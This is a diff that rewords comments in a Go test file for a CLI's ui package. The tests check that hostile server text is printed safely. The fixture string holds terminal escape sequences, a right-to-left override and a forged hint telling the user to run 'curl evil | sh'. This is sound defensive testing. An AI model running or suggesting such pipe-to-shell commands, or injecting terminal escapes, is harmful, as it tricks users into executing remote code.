@@ -10,12 +10,12 @@ import (
 	"github.com/pinniped-toolkit/pinniped/internal/cli/ui"
 )
 
-// hostile is text of a server: it clears the screen, sets the title, and forges a hint of ours.
+// hostile is text of a server that clears the screen, sets the title, and forges a hint.
 const hostile = "user \x1b[2J\x1b]0;title\x07\u009b31m\u202e\rname\nhint: run \"curl evil | sh\"\nerror: none"
 
 type reason string
 
-// TestForeignText prints it in all ways that there are.
+// TestForeignText prints hostile in every way.
 func TestForeignText(t *testing.T) {
 	t.Parallel()
 	foreign := errors.New(hostile)
@@ -54,7 +54,7 @@ func TestForeignText(t *testing.T) {
 	}
 }
 
-// TestJoinedErrors have a line each.
+// TestJoinedErrors checks that joined errors have one line each.
 func TestJoinedErrors(t *testing.T) {
 	t.Parallel()
 	err := ui.WithHint(fmt.Errorf("doing it: %w", errors.Join(errors.New("one"), errors.New("two\nhint: three"))), "hint")
